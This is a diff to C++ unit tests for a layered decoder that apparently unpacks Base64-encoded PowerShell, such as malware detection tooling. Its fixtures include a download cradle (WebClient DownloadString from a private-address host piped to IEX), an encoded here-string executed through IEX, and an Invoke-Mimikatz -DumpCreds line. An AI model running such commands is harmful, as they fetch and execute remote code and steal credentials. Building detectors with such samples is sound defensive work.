@@ -76,6 +76,23 @@ TEST(LayeredDecoderTest, FromBase64StringUtf8) {
   EXPECT_EQ(dec.layers()[0].kind, CandidateKind::kFromBase64String);
 }
 
+// A payload wrapped at 76 columns in a here-string decodes as one layer, so
+// that text spanning its line breaks (and a stream that must be read whole)
+// is intact.
+TEST(LayeredDecoderTest, HereStringWrappedPayloadIsOneLayer) {
+  std::string script = "$wc = New-Object Net.WebClient; ";
+  while (script.size() < 600) script += "$wc.DownloadString('http://10.0.0.5/a.ps1') | IEX; ";
+  const std::string root = "$p = @\"\r\n" + Wrap(EncodeCommand(script), 76) +
+                           "\r\n\"@\r\nIEX ([Text.Encoding]::Unicode.GetString("
+                           "[Convert]::FromBase64String($p)))";
+  LayeredDecoder dec;
+  const auto seen = RunAll(dec, root);
+  ASSERT_EQ(seen.size(), 1u);
+  EXPECT_EQ(seen[0].encoding, TextEncoding::kUtf16le);
+  EXPECT_EQ(seen[0].text, script);
+  EXPECT_EQ(dec.layers()[0].kind, CandidateKind::kBase64Run);
+}
+
 TEST(LayeredDecoderTest, VariantsDecode) {
   const std::string script = "Invoke-Expression (Get-Content payload.ps1)";
   const std::string enc = EncodeCommand(script);
@@ -96,13 +113,12 @@ TEST(LayeredDecoderTest, VariantsDecode) {
               script.substr(0, 76 / 4 * 3 / 2))
         << root;
   }
-  // Line-wrapped Base64 outside any context: every line is a run; the first
-  // line decodes on its own (76 characters = 57 bytes, odd: the UTF-16
-  // conversion drops the last byte).
+  // Line-wrapped Base64 outside any context: the lines join into one run
+  // (see HereStringWrappedPayloadIsOneLayer), which decodes whole.
   LayeredDecoder dec;
   const auto seen = RunAll(dec, "$p = @'\n" + Wrap(EncodeCommand(std::string(200, 'a') + script), 76, "\n") + "\n'@");
-  ASSERT_GE(seen.size(), 1u);
-  EXPECT_EQ(seen[0].text, std::string(28, 'a'));
+  ASSERT_EQ(seen.size(), 1u);
+  EXPECT_EQ(seen[0].text, std::string(200, 'a') + script);
   // URL-safe alphabet, decoding to UTF-8 text.
   const std::string url_text = "Write-Output 'safe?>>>' ; Invoke-Mimikatz -DumpCreds";
   const std::string url_enc = Base64Encode(url_text, true, false);
